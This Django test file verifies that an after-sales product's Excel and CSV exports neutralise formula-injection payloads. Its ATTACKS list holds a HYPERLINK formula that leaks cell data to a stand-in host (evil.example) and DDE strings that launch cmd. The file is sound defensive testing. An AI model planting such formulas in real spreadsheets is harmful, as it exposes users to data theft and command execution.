"""Formula injection: no export lets a spreadsheet run a cell (issue 12, item 13).

Every Excel or CSV file the product writes is built through ``aftersales.core.exports``, which
turns text starting with = + - @ tab or carriage return (and the full-width ＝＋－＠) into inert
text and leaves numbers numbers. Three guards:

* the helper itself, value by value and on a workbook filled by any means;
* every export the product has, fed a malicious value through the data it exports, read back
  cell by cell;
* the list of exports is complete: a page or API module that writes a workbook or a CSV file
  and is not listed here, or any module that builds one without the helper, fails.
"""

from __future__ import annotations

import ast
import datetime as dt
import inspect
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from aftersales.core.audit import audit_record
from aftersales.core.exports import (
    FORMULA_STARTS,
    csv_text,
    is_inert,
    neutralise,
    new_workbook,
    xlsx_bytes,
)
from aftersales.purchasing.tests.conftest import (  # noqa: F401
    parts,
    promised,
    suppliers,
    today,
    warehouse,
)
from aftersales.routing.tests.test_sla_report import known  # noqa: F401

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
ATTACKS = [
    EVIL,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
]


# --- the helper ------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ATTACKS)
def test_text_that_starts_a_formula_is_neutralised(value):
    safe = neutralise(value)
    assert safe == "'" + value and is_inert(safe)
    assert not is_inert(value)


@pytest.mark.parametrize(
    "value",
    [-5, 3.5, Decimal("-12.50"), 0, True, dt.date(2026, 3, 1), None, "空调 -5℃", "a=b", "SC-1"],
)
def test_numbers_dates_and_ordinary_text_stay_as_they_are(value):
    assert neutralise(value) == value and type(neutralise(value)) is type(value)


def test_every_start_the_issue_names_is_covered():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"}


def test_a_workbook_is_checked_on_the_way_out_however_it_was_filled():
    wb = new_workbook()
    ws = wb.active
    ws.append(ATTACKS)
    ws["A3"] = "=1+1"  # written directly, not through append
    ws.cell(row=4, column=1, value=-7)
    extra = wb.create_sheet("second")
    extra["B2"] = "@cmd"
    book = load_workbook(io.BytesIO(xlsx_bytes(wb)))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" and is_inert(c.value) for c in cells)
    assert book.active["A3"].value == "'=1+1" and book.active["A4"].value == -7
    assert book["second"]["B2"].value == "'@cmd"


def test_csv_rows_are_neutralised():
    text = csv_text(["名称", "数量"], [[EVIL, -3], ["@x", 4]])
    lines = text.splitlines()
    assert lines[1].startswith("\"'=HYPERLINK") and lines[1].endswith(",-3")
    assert lines[2] == "'@x,4"


# --- every export, fed a malicious value -----------------------------------------------------


def client_for(user) -> Client:
    c = Client()
    c.force_login(user)
    return c


def _part_export(users, request):
    from aftersales.parts.services import part_create

    part_create(
        code="EVIL-1",
        name=EVIL,
        specification="@SUM(1+1)",
        unit="pcs",
        standard_cost="1.00",
        list_price="2.00",
        actor=users["parts_keeper"],
    )
    return users["parts_keeper"], reverse("parts:part_export"), {}


def _import_template(users, request):
    return users["parts_keeper"], reverse("parts:import_template"), None  # headers only


def _purchasing(users, request):
    from aftersales.purchasing.models import Supplier
    from aftersales.purchasing.services import order_create

    the_parts = request.getfixturevalue("parts")
    meidi = request.getfixturevalue("suppliers")["meidi"]
    Supplier.objects.filter(pk=meidi.pk).update(name=EVIL)
    order_create(
        actor=None,
        supplier=Supplier.objects.get(pk=meidi.pk),
        promised_date=request.getfixturevalue("promised"),
        lines=[{"part": the_parts["capacitor"], "quantity": 10, "unit_price": "11"}],
    )
    return users["parts_keeper"]


def _order_list(users, request):
    return _purchasing(users, request), reverse("purchasing:order_list"), {"format": "xlsx"}


def _scorecard(users, request):
    return _purchasing(users, request), reverse("purchasing:scorecard"), {"format": "xlsx"}


def _figures(users, request):
    from django.utils import timezone

    from aftersales.parts.models import Movement, Part
    from aftersales.parts.services import stock_receive

    capacitor = request.getfixturevalue("parts")["capacitor"]
    Part.objects.filter(pk=capacitor.pk).update(name=EVIL)
    stock_receive(
        part=Part.objects.get(pk=capacitor.pk),
        location=request.getfixturevalue("warehouse"),
        quantity=5,
        unit_cost="12",
        batch_lot="LOT-EVIL",
        actor=users["parts_keeper"],
    )
    # the stock has not moved for a year: it is dead stock, listed with its name
    a_year_ago = timezone.now() - dt.timedelta(days=365)
    Movement.objects.filter(part=capacitor).update(created_at=a_year_ago)
    params = {"format": "xlsx"}
    return users["parts_keeper"], reverse("purchasing:figures"), params


def _sla_report(users, request):
    org = request.getfixturevalue("org")
    request.getfixturevalue("known")
    team = org["team_a"]
    team.name = EVIL
    team.save(update_fields=["name"])
    params = {"date_from": "2026-03-01", "date_to": "2026-03-31", "group": "team"}
    return users["supervisor"], reverse("routing:sla_report_export"), params


def _audit_export(users, request):
    audit_record(
        actor=users["agent"],
        action="case.update",
        object_type="cases.case",
        object_id=1,
        object_repr=EVIL,
        reason="+1+cmd",
    )
    return users["supervisor"], reverse("core:audit_export"), {}


# URL name → how to plant the malicious value and ask for the export. ``None`` as the query
# means the file carries no data (a template of headers): it is only checked for inert cells.
EXPORTS = {
    "parts:part_export": _part_export,
    "parts:import_template": _import_template,
    "purchasing:order_list": _order_list,
    "purchasing:scorecard": _scorecard,
    "purchasing:figures": _figures,
    "routing:sla_report_export": _sla_report,
    "core:audit_export": _audit_export,
}
# Pages that read spreadsheets or CSV files people upload, and write none.
READS_ONLY = {
    "parts:import": "reads a catalog or opening-stock workbook and shows what it would change",
    "parts:import_apply": "applies a checked workbook",
    "calendars:calendar_import": "reads a holiday CSV file",
}


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_every_export_writes_the_malicious_value_as_inert_text(name, users, request):
    user, url, params = EXPORTS[name](users, request)
    response = client_for(user).get(url, params or {})
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    bad = [c.value for c in cells if c.data_type == "f" or not is_inert(c.value)]
    assert bad == []
    if params is not None:  # the value went through: it is there, as text
        assert "'" + EVIL in [c.value for c in cells], name


# --- the list above is complete ------------------------------------------------------------


def _patterns(resolver: URLResolver, prefix: str = ""):
    for p in resolver.url_patterns:
        if isinstance(p, URLResolver):
            ns = f"{prefix}{p.namespace}:" if p.namespace else prefix
            yield from _patterns(p, ns)
        elif isinstance(p, URLPattern) and p.name:
            yield f"{prefix}{p.name}", p.callback


WRITES_FILES = re.compile(r"xlsx|workbook|csv|spreadsheet", re.IGNORECASE)


def test_every_page_that_writes_a_spreadsheet_is_listed():
    found = set()
    for name, callback in _patterns(get_resolver()):
        view = inspect.unwrap(callback)
        module = getattr(view, "__module__", "") or ""
        if not module.startswith("aftersales."):
            continue
        try:
            source = inspect.getsource(view)
        except (OSError, TypeError):
            continue
        if WRITES_FILES.search(source):
            found.add(name)
    unlisted = found - set(EXPORTS) - set(READS_ONLY)
    assert not unlisted, f"add these exports to EXPORTS (with a malicious value): {unlisted}"
    assert set(EXPORTS) <= found, set(EXPORTS) - found


def test_no_api_operation_writes_a_spreadsheet():
    """The API answers JSON; a new API export must be added to EXPORTS above."""
    for path in sorted(ROOT.glob("*/api*.py")) + sorted(ROOT.glob("*/api/*.py")):
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"\.xlsx|text/csv|Workbook\(|csv\.writer", text), path


WRITERS = {"Workbook", "writer", "DictWriter", "save_workbook"}


def test_only_the_helper_builds_workbooks_and_csv_files():
    """No product module makes a workbook, a CSV writer or saves a workbook by itself: they
    ask ``core.exports`` (whose check runs on every cell on the way out)."""
    offenders = []
    for path in sorted(ROOT.rglob("*.py")):
        rel = path.relative_to(ROOT.parent).as_posix()
        if "/tests" in rel or "/migrations/" in rel or rel.endswith("core/exports.py"):
            continue
        if rel.startswith("aftersales/demo/") or rel.endswith("testing.py"):
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            func = node.func
            name = func.id if isinstance(func, ast.Name) else getattr(func, "attr", "")
            owner = (
                func.value.id
                if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name)
                else ""
            )
            if name in {"Workbook", "save_workbook", "DictWriter"} or (
                name == "writer" and owner == "csv"
            ):
                offenders.append(f"{rel}:{node.lineno} {name}")
    assert offenders == []
